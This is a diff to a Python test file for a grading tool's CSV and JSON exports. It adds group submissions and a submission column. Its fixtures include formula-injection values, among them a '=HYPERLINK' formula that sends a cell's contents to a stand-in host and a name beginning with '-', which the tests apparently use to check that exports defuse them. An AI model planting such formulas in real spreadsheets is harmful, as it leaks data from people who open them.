@@ -11,7 +11,7 @@ from random import Random
 import pytest
 
 from grader.judge import broken, not_gradable
-from grader.outcome import Report, Status
+from grader.outcome import Member, Report, Status
 from grader.report.exports import canvas, moodle, people
 from grader.report.exports.cells import read_cells
 from grader.report.exports.marks import BadTable, Mark, maximum, number
@@ -252,14 +252,17 @@ def test_what_is_no_number_of_points(cell: str) -> None:
 
 
 def reports() -> list[Report]:
-    """A class: a score, a formula for a name, and a failure of ours."""
-    good = replace(not_gradable(job("ada")), status=Status.GRADED, score=87)
-    return [good, replace(good, submission="=1+1", score=40), broken(job("eve"), "we failed")]
+    """A class: a group with a score, a formula for a name, and a failure of ours."""
+    good = replace(not_gradable(job("ada+bob")), status=Status.GRADED, score=87)
+    found = [good, replace(good, submission="=1+1", score=40), broken(job("eve"), "we failed")]
+    members = {"ada+bob": (Member(id="ada"), Member(id="bob"))}
+    return [replace(one, members=members.get(one.submission, (Member(id=one.submission),))) for one in found]
 
 
 FORMULA = '=HYPERLINK("http://e.test?"&A1)'
 CLASS = {
     "ada": Mark(student="ada", name="Lovelace, Ada", share=Fraction("78.3") / 100, why="late"),
+    "bob": Mark(student="bob", share=Fraction(87, 100)),
     "=1+1": Mark(student="=1+1", name=FORMULA, share=Fraction(40, 100)),
     "eve": Mark(student="eve", name="-Eve", share=None, why="broken"),
 }
@@ -268,13 +271,14 @@ CLASS = {
 def test_csv_for_programs_is_exact() -> None:
     data = people.for_programs(reports(), CLASS).decode()
     heads, *rows = csv.reader(io.StringIO(data, newline=""), strict=True)
-    assert heads[:7] == ["student", "name", "status", "judged", "score", "max_score", "note"]
-    assert [row[:7] for row in rows] == [
-        ["ada", "Lovelace, Ada", "graded", "87", "78.3", "100", "late"],
-        ["=1+1", FORMULA, "graded", "40", "40", "100", ""],
-        ["eve", "-Eve", "broken", "", "", "100", "broken"],
+    assert heads[:8] == ["student", "name", "submission", "status", "judged", "score", "max_score", "note"]
+    assert [row[:8] for row in rows] == [
+        ["ada", "Lovelace, Ada", "ada+bob", "graded", "87", "78.3", "100", "late"],
+        ["bob", "", "ada+bob", "graded", "87", "87", "100", ""],
+        ["=1+1", FORMULA, "=1+1", "graded", "40", "40", "100", ""],
+        ["eve", "-Eve", "eve", "broken", "", "", "100", "broken"],
     ]
-    assert "listens" in heads and rows[2][heads.index("listens")] == "broken"
+    assert "listens" in heads and rows[3][heads.index("listens")] == "broken"
 
 
 def test_csv_for_people_has_no_formula() -> None:
@@ -296,8 +300,9 @@ def test_what_a_spreadsheet_may_run(start: str) -> None:
 
 def test_json_has_numbers_and_no_score_for_a_failure_of_ours() -> None:
     table = json.loads(people.as_json(reports(), CLASS))
-    assert (table["format"], table["step"], len(table["students"])) == (1, "hw01_echo", 3)
-    ada, _, eve = table["students"]
+    assert (table["format"], table["step"], len(table["students"])) == (2, "hw01_echo", 4)
+    ada, bob, _, eve = table["students"]
     assert (ada["judged"], ada["score"], ada["max_score"], ada["note"]) == (87, 78.3, 100, "late")
+    assert (bob["student"], bob["submission"], bob["judged"], bob["score"]) == ("bob", "ada+bob", 87, 87)
     assert (eve["judged"], eve["score"], eve["status"]) == (None, None, "broken")
     assert set(eve["outcomes"].values()) == {"broken"}
